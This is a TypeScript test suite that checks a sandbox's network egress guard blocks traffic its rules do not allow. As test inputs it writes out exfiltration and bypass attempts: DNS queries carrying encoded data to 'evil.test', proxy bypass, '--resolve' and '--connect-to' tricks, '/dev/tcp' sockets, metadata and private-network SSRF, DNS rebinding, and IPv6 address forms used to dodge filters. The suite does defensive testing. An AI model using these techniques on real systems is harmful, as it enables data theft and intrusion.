import type { Sandbox } from "@sandboxer/sdk";
import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";
import { requires } from "../capabilities/requires.ts";
import { METADATA, OTHER, PRIVATE, WORLD } from "./lab/lab.ts";
import { type Bench, curl, openBench, probe, text } from "./lab/sandbox.ts";

const { describe } = await requires("linux-userns", "boxd", "egress-lab");

const PORTS = [1, 22, 53, 80, 443, 853, 3128, 8080, 8443, 65_535];

describe("what is not allowed does not get out", () => {
  let bench: Bench;
  let sandbox: Sandbox;
  beforeAll(async () => {
    bench = await openBench();
    await bench.lab.name("api.allowed.test", [WORLD]);
    await bench.lab.name("raw.allowed.test", [WORLD]);
    sandbox = await bench.sandbox({
      rules: [
        { host: "api.allowed.test" },
        { host: "raw.allowed.test", protocol: "tcp", ports: [7000, 443] },
      ],
    });
  });
  afterAll(() => bench.close());
  beforeEach(() => bench.lab.clear());

  /** Nothing of any kind came over the wire while this was done. */
  const silent = async (work: () => Promise<unknown>) => {
    const before = await bench.lab.look();
    await work();
    const after = await bench.lab.look();
    expect({ records: after.records, packets: after.packets - before.packets }).toEqual({
      records: [],
      packets: 0,
    });
  };

  /** A name may have been looked up, but nobody was connected to. */
  const unconnected = async (work: () => Promise<unknown>) => {
    await work();
    expect((await bench.lab.look()).records.filter(({ kind }) => kind !== "dns")).toEqual([]);
  };

  it("the wire is seen: what is allowed counts as packets (negative control)", async () => {
    const before = await bench.lab.look();
    const { stdout } = await curl(sandbox, "https://api.allowed.test/");
    expect(text(stdout)).toContain("hello");
    const after = await bench.lab.look();
    expect(after.packets).toBeGreaterThan(before.packets);
    expect(after.records.map(({ kind }) => kind)).toContain("request");
  });

  it.each([
    ["no rules", {}],
    ["an empty list of rules", { rules: [] }],
    ["no sets", { sets: ["none"] }],
    ["nothing but denials", { rules: [{ host: "evil.test", effect: "deny" as const }] }],
  ])("EG-1 with %s, nobody is reached", async (_, network) => {
    const closed = await bench.sandbox(network);
    await silent(async () => {
      for (const url of ["https://api.allowed.test/", "http://api.allowed.test:7000/", `https://${WORLD}/`]) {
        expect((await curl(closed, "--insecure", url)).exit).not.toEqual({ kind: "exited", code: 0 });
      }
    });
  });

  it.each([
    ["network", null],
    ["network", []],
    ["network", {}],
    ["network", ""],
    ["rules", null],
    ["rules", "**"],
    ["rules", [null]],
    ["rules", [{}]],
    ["rules", [{ host: "" }]],
    ["rules", [{ host: "*" }]],
    ["rules", [{ host: "*.test" }]],
    ["sets", null],
    ["sets", ["everything"]],
    ["mode", null],
    ["mode", "off"],
  ])("EG-1 a policy whose %s is %j opens nothing: it is refused", async (field, value) => {
    const network = field === "network" ? value : { egress: "guarded", [field]: value };
    const refused = bench.client.sandboxes.create({ network } as never);
    await expect(refused).rejects.toMatchObject({ code: expect.stringMatching(/^invalid|^policy_denied/) });
  });

  it("EG-1 without a policy at all there is no way out", async () => {
    const none = await bench.client.sandboxes.create({});
    expect(none.info.spec.network).toEqual({ egress: "deny" });
    await silent(async () => {
      const to = [WORLD, "198.18.0.1", "198.19.0.1", "api.allowed.test"].map((host) => [host, 443]);
      for (const answer of await probe(none, { op: "tcp", to })) expect(answer.got ?? "").toBe("");
    });
  });

  it("EG-1 EG-2 addresses are refused at once, on every port, with and without proxy variables", async () => {
    await silent(async () => {
      const literals = [WORLD, "1.1.1.1", "198.19.77.77", "2606:4700::1111", "::ffff:1.1.1.1"];
      // The same in IPv6's many clothes: 6to4, NAT64, Teredo.
      const dressed = ["2002:5db8:d822::1", "64:ff9b::5db8:d822", "2001:0:5db8:d822::1", "fe80::1"];
      const to = [...literals, ...dressed].flatMap((host) => PORTS.map((port) => [host, port]));
      for (const answer of await probe(sandbox, { op: "tcp", to })) {
        expect(answer.error ?? answer.got).not.toBe(undefined);
        expect(answer.got ?? "").toBe("");
        expect(answer.seconds).toBeLessThan(1);
      }
      const bypass = await sandbox.run(
        ["curl", "-sS", "--noproxy", "*", "--max-time", "3", `http://${WORLD}/`],
        {
          env: { NO_PROXY: "*", HTTP_PROXY: "" },
        },
      );
      expect(bypass.exit).not.toEqual({ kind: "exited", code: 0 });
    });
  });

  it("EG-3 other protocols do not get out", async () => {
    await silent(async () => {
      const to = [
        WORLD,
        "8.8.8.8",
        "198.19.1.1",
        "2001:4860:4860::8888",
        "2002:5db8:d822::1",
        "64:ff9b::5db8:d822",
        "fe80::1",
        "ff02::1",
        "224.0.0.251",
        "255.255.255.255",
      ].flatMap((host) => [53, 123, 443, 3544, 9999].map((port) => [host, port]));
      for (const answer of await probe(sandbox, { op: "udp", to })) expect(answer.error).toBeDefined();
      expect(Object.values(await probe(sandbox, { op: "kinds" }))).not.toContain("made");
    });
  });

  it("EG-4 no question leaves for a name that is not allowed, and of one that is, only its address", async () => {
    await silent(async () => {
      const lookups = ["c2VjcmV0.evil.test", "evil.test", "x.api.allowed.test"].map((name) => [
        "getent",
        "hosts",
        name,
      ]);
      for (const argv of lookups) await sandbox.run(argv);
      for (const url of ["https://c2VjcmV0.evil.test/", "https://x.api.allowed.test/"])
        await curl(sandbox, url);
      // Also not for the allowed one, before somebody connects to it.
      await sandbox.run(["getent", "hosts", "api.allowed.test"]);
    });
    await curl(sandbox, "https://api.allowed.test/");
    const asked = (await bench.lab.look()).records
      .filter(({ kind }) => kind === "dns")
      .map(({ what }) => what);
    expect(asked.sort()).toEqual(["A api.allowed.test", "AAAA api.allowed.test"]);
  });

  it("EG-5 a name that leads inside a network leads nowhere, unless a rule names the network", async () => {
    const inside = {
      "metadata.evil.test": METADATA,
      "lan.evil.test": PRIVATE,
      "self.evil.test": "127.0.0.1",
    };
    for (const [name, address] of Object.entries(inside)) await bench.lab.name(name, [address]);
    const rule = (host: string, cidrs?: string[]) => ({
      host,
      protocol: "tcp" as const,
      ports: [80, 7000],
      ...(cidrs && { cidrs }),
    });
    const everywhere = ["10.0.0.0/8", "169.254.0.0/16", "127.0.0.0/8", "0.0.0.0/0"];
    const tricked = await bench.sandbox({ rules: Object.keys(inside).map((name) => rule(name)) });
    const named = await bench.sandbox({ rules: Object.keys(inside).map((name) => rule(name, everywhere)) });
    const reached = async (from: Sandbox) => {
      const codes: Record<string, boolean> = {};
      for (const name of Object.keys(inside)) {
        codes[name] =
          (await curl(from, `http://${name}/`)).exit.kind === "exited" &&
          text((await curl(from, `http://${name}/`)).stdout).includes("hello");
      }
      return codes;
    };
    expect(await reached(tricked)).toEqual({
      "metadata.evil.test": false,
      "lan.evil.test": false,
      "self.evil.test": false,
    });
    // The same addresses are there to be reached: with the network named, the private one is.
    expect(await reached(named)).toEqual({
      "metadata.evil.test": false,
      "lan.evil.test": true,
      "self.evil.test": false,
    });
    const { records } = await bench.lab.look();
    expect(records.filter(({ what }) => what.includes(METADATA))).toEqual([]);
  });

  it("EG-7 a name that changes its mind after it was judged is dialled as it was judged", async () => {
    await bench.lab.name("rebind.test", [WORLD], [PRIVATE]);
    await bench.lab.name("mixed.test", [WORLD, PRIVATE]);
    const rules = ["rebind.test", "mixed.test"].map((host) => ({
      host,
      protocol: "tcp" as const,
      ports: [80],
    }));
    const tricked = await bench.sandbox({ rules });
    expect(text((await curl(tricked, "http://rebind.test/")).stdout)).toContain("hello");
    expect((await curl(tricked, "http://rebind.test/")).exit).not.toEqual({ kind: "exited", code: 0 });
    expect((await curl(tricked, "http://mixed.test/")).exit).not.toEqual({ kind: "exited", code: 0 });
    const { records } = await bench.lab.look();
    expect(records.filter(({ kind, what }) => kind === "connection" && what.includes(PRIVATE))).toEqual([]);
    // What the sandbox believes about a name changes nothing: the guard has the name, not the address.
    const edited = await sandbox.run([
      "sh",
      "-c",
      `curl -sS --max-time 3 --resolve api.allowed.test:443:${OTHER} -k https://api.allowed.test/`,
    ]);
    expect(edited.exit).not.toEqual({ kind: "exited", code: 0 });
  });

  it("EG-10 TLS for another name than the one asked for is not carried", async () => {
    await unconnected(async () => {
      const tries = [
        ["--connect-to", "evil.test:443:api.allowed.test:443", "https://evil.test/"],
        ["--connect-to", "1.2.3.4:443:api.allowed.test:443", "https://1.2.3.4/"],
      ];
      for (const args of tries) {
        const { exit } = await curl(sandbox, "--insecure", ...args);
        expect(exit).not.toEqual({ kind: "exited", code: 0 });
      }
    });
    await expect
      .poll(async () => (await sandbox.networkCalls()).calls.at(-1))
      .toMatchObject({ verdict: "failed", reason: "TLS is for another name" });
  });

  it("EG-9 what is no TLS is not carried on 443, unless the rule says tcp", async () => {
    await unconnected(async () => {
      const { stdout } = await curl(sandbox, "http://api.allowed.test:443/");
      expect(text(stdout)).toBe("");
    });
    const raw = await sandbox.run(
      ["sh", "-c", "exec 3<>/dev/tcp/raw.allowed.test/7000; echo hi >&3; head -1 <&3"],
      {},
    );
    const bash =
      raw.stdout.length > 0
        ? raw
        : await sandbox.run([
            "bash",
            "-c",
            "exec 3<>/dev/tcp/raw.allowed.test/7000; echo hi >&3; head -1 <&3",
          ]);
    expect(text(bash.stdout)).toBe("hi\n");
  });
});
